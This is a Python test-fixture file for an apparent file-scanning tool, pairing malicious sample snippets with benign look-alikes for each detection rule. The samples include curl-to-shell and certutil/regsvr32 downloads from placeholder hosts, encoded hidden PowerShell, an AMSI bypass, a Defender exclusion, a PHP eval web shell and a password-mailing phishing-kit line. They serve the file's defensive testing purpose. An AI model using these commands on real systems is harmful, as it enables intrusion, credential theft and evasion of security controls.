"""One made-up file for each rule about scripts and small files of Windows and other systems."""

from __future__ import annotations

from tests import files

SHORTCUT = files.shortcut("C:\\Windows\\System32\\cmd.exe /c start https://files.example/a")
SMUGGLER = (
    b"<script>var b=new Blob([Uint8Array.from(atob('UEsDBBQAAAAI'))]);a.href=URL.createObjectURL(b);"
    b"a.download='x';a.click()</script>"
)

SAMPLES: dict[str, bytes] = {
    "programs.program_hidden_in_base64": b"certificate\n" + b"TVqQAAMAAAAEAAAA//8AALgAAAA",
    "programs.program_named_as_document": b"MZ" + bytes(60) + "OriginalFilename\0\0invoice.pdf\0".encode("utf-16-le"),
    "scripts.script_downloads_and_starts": (
        b'Set s=CreateObject("WScript.Shell")\nSet h=CreateObject("MSXML2.XMLHTTP")\nf.SaveToFile p\ns.Run p'
    ),
    "scripts.powershell_hidden_or_encoded": b"powershell -nop -w hidden -enc " + b"SQBFAFgA" * 12,
    "scripts.link_file_starts_interpreter": SHORTCUT,
    "scripts.html_smuggling": SMUGGLER,
    "scripts.html_redirect_hidden": b"<html><script>location.href=atob('aHR0cHM6Ly9hLmV4YW1wbGU=')</script>",
    "scripts.svg_with_script": b"<svg xmlns='a'><script>window.location = 'https://login.example'</script></svg>",
    "scripts.hta_application_runs_command": b"<hta:application><script>new ActiveXObject('WScript.Shell')</script>",
    "windows_scripts.script_of_encoded_kind": b"#@~^QwIAAA==-mD~b'j",
    "windows_scripts.script_builds_code_of_numbers": b"x = " + b"Chr(104) & " * 14 + b'"a"',
    "windows_scripts.script_runs_what_it_decodes": b'Set a = CreateObject("x")\nExecute(StrReverse("nuR"))',
    "windows_scripts.script_writes_file_and_starts_it": (
        b'Set x=CreateObject("MSXML2.DOMDocument"): e.dataType="bin.base64"\nSet s=CreateObject("ADODB.Stream")\n'
        b"s.SaveToFile f\nsh.Run f"
    ),
    "windows_scripts.script_starts_process_by_wmi": (
        b'Set p = GetObject("winmgmts:root\\cimv2:Win32_Process")\np.Create "powershell -File a", Null, c, i'
    ),
    "windows_scripts.script_file_loads_script": (
        b'<job id="a"><script language="VBScript" src="https://a.example/b"/></job>'
    ),
    "windows_scripts.style_sheet_starts_program": (
        b'<ms:script implements-prefix="u" language="JScript">new ActiveXObject("WScript.Shell")</ms:script>'
    ),
    "windows_scripts.batch_slices_variables": b"set a=abcdef\r\n" + b"%a:~3,1%%a:~-2,1%" * 12,
    "windows_scripts.command_loads_file": b"certutil.exe -urlcache -split -f https://files.example/a.exe a.exe",
    "windows_scripts.command_decodes_program": b"certutil -decode %temp%\\a.txt %temp%\\a.exe",
    "windows_scripts.command_runs_scriptlet": b"regsvr32 /s /n /u /i:https://files.example/a.sct scrobj.dll",
    "windows_scripts.command_runs_page": b'mshta "javascript:new ActiveXObject(1)"',
    "windows_scripts.command_installs_quietly_from_net": b"msiexec /q /i https://files.example/a.msi",
    "windows_scripts.command_stays_after_restart": b"schtasks /create /sc onlogon /tn a /tr wscript.exe",
    "windows_scripts.script_blinds_defender": b"Add-MpPreference -ExclusionPath 'C:\\'",
    "windows_scripts.powershell_blinds_amsi": (
        b"[Ref].Assembly.GetType('System.Am'+'siUtils').GetField('amsiInitFailed')"
    ),
    "windows_scripts.powershell_loads_program_from_text": (
        b"[Reflection.Assembly]::Load([Convert]::FromBase64String($a)).EntryPoint.Invoke($null, $null)"
    ),
    "windows_scripts.powershell_unpacks_and_runs": (
        b"iex (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream([Convert]::FromBase64String($a)))))"
    ),
    "windows_scripts.powershell_spells_with_backticks": b"i`ex (N`ew-Ob`ject Net.WebClient).D`own`loadStr`ing($u)",
    "windows_scripts.settings_file_starts_program": (
        b"<PCSettings><SearchableContent/><SettingContent><DeepLink>%windir%\\system32\\cmd.exe /c a</DeepLink>"
    ),
    "windows_scripts.library_of_foreign_server": (
        b"<libraryDescription><url>\\\\203.0.113.9\\share</url></libraryDescription>"
    ),
    "windows_scripts.internet_shortcut_starts_program": b"[InternetShortcut]\r\nURL=file://203.0.113.9/a/b.vbs\r\n",
    "windows_scripts.shell_command_file_fetches_icon": (
        b"[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.9\\a\\b.ico\r\n"
    ),
    "windows_scripts.link_file_hides_arguments": files.shortcut(" " * 1_600 + "/c a"),
    "windows_scripts.file_of_web_folder_is_started": b"start \\\\files.example@SSL\\DavWWWRoot\\a\\b.dll",
    "other_scripts.desktop_entry_loads_program": b"[Desktop Entry]\nExec=bash -c 'curl https://a.example | sh'\n",
    "other_scripts.shell_runs_what_it_decodes": b"echo aWQ= | base64 -d | bash",
    "other_scripts.python_runs_what_it_decodes": b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
    "other_scripts.apple_script_asks_for_password": (
        b'display dialog "macOS needs your password" default answer "" with hidden answer\ndo shell script "curl a"'
    ),
    "other_scripts.php_shell_of_intruder": b"<?php @eval($_POST['a']); ?>",
    "other_scripts.php_kit_sends_passwords": (
        b"<?php $p=$_POST['password']; $ip=$_SERVER['REMOTE_ADDR']; $m=\"----- Login -----\"; mail($to,$m,$p);"
        b'file_get_contents("http://ip-api.com/json");'
    ),
    "other_scripts.java_class_loads_and_starts": (
        b"\xca\xfe\xba\xbe java/lang/Runtime exec java/net/URL openStream java/io/FileOutputStream java.io.tmpdir"
    ),
}

GOOD: dict[str, bytes] = {
    "a script of an office": b'Set f = CreateObject("Scripting.FileSystemObject")\nf.CopyFile "a.txt", "b.txt"\n',
    "a script that fetches prices": b'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", u\nMsgBox h.responseText\n',
    "a script that lists printers": (
        b'For Each p In GetObject("winmgmts:").InstancesOf("Win32_Printer")\nMsgBox p.Name\nNext'
    ),
    "a line break in a script": b"MsgBox a & Chr(13) & Chr(10) & b & Chr(13) & Chr(10)",
    "a batch file": b"@echo off\r\nset d=%date:~0,4%%date:~5,2%\r\ncopy a.txt backup-%d%.txt\r\n",
    "a checksum": b"certutil -hashfile setup.exe SHA256\r\n",
    "a certificate that is decoded": b"certutil -decode server.b64 server.crt\r\n",
    "a library that is registered": b"regsvr32 /s viewer.dll\r\n",
    "a package that is installed": b"msiexec /i setup.msi /qn\r\n",
    "a backup at night": b'schtasks /create /sc daily /tn backup /tr "C:\\Program Files\\Backup\\backup.exe"\r\n',
    "a registry file": b'[HKEY_CURRENT_USER\\Software\\Example]\r\n"Theme"="dark"\r\n',
    "a PowerShell script": b"Get-ChildItem | Sort-Object Length | Export-Csv files.csv\n",
    "a PowerShell script that decodes": b"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($token))\n",
    "a PowerShell script that unpacks": (
        b"$s = New-Object IO.Compression.GzipStream($file, 'Decompress')\n$s.CopyTo($out)\n"
    ),
    "a PowerShell script with a line break": b"Get-Process `\n  -Name explorer `\n  | Stop-Process\n",
    "what Defender excludes": b"Get-MpPreference | Select-Object ExclusionPath\n",
    "a note about AMSI": b"AMSI lets scanners see scripts. Its class AmsiUtils is private.\n",
    "an internet shortcut": b"[InternetShortcut]\r\nURL=https://www.example.com/\r\nIconIndex=0\r\n",
    "an internet shortcut to a file of ours": b"[InternetShortcut]\r\nURL=file:///C:/Users/a/plan.pdf\r\n",
    "a folder's settings": b"[.ShellClassInfo]\r\nIconResource=C:\\Windows\\system32\\imageres.dll,3\r\n",
    "a library of SharePoint": (
        b"<searchConnectorDescription><url>https://example.sharepoint.com/docs</url></searchConnectorDescription>"
    ),
    "a link file to a document": files.shortcut("C:\\Users\\a\\Documents\\plan.docx"),
    "a style sheet": b"<xsl:stylesheet><xsl:template match='/'><p><xsl:value-of select='a'/></p></xsl:template>",
    "a text about commands": b"Use powershell -enc only for tests, mshta and cmd /c never.\n",
    "a mail about commands": (
        b"From a@example.com\n\nregsvr32 /i:https://a.example/a.sct scrobj.dll is how it was done.\n"
    ),
    "a patch with a script": b"+powershell -File build.ps1\n+certutil -hashfile x\n",
    "a starter of a desktop": b"[Desktop Entry]\nName=Editor\nExec=/usr/bin/editor %F\nType=Application\n",
    "a shell script": b"#!/bin/sh\nset -e\nbase64 -d < key.b64 > key.bin\ncurl -O https://www.example.com/a.tar.gz\n",
    "a Python program": b"import base64\nprint(base64.b64decode(text))\nexec(compile(source, name, 'exec'))\n",
    "an AppleScript": b'display dialog "Finished" buttons {"OK"}\n',
    "a PHP page": b"<?php $n = htmlspecialchars($_POST['name']); mail($to, 'Order', $n); ?>",
    "a PHP page with a log-in": b"<?php if (password_verify($_POST['password'], $hash)) { header('Location: /'); } ?>",
    "a Java class": b"\xca\xfe\xba\xbe java/net/URL openStream java/io/FileOutputStream exec",
    "a mail with a program": b"From: a@example.com\nContent-Transfer-Encoding: base64\n\nTVqQAAMAAAAEAAAA//8AALgAAAA\n",
}
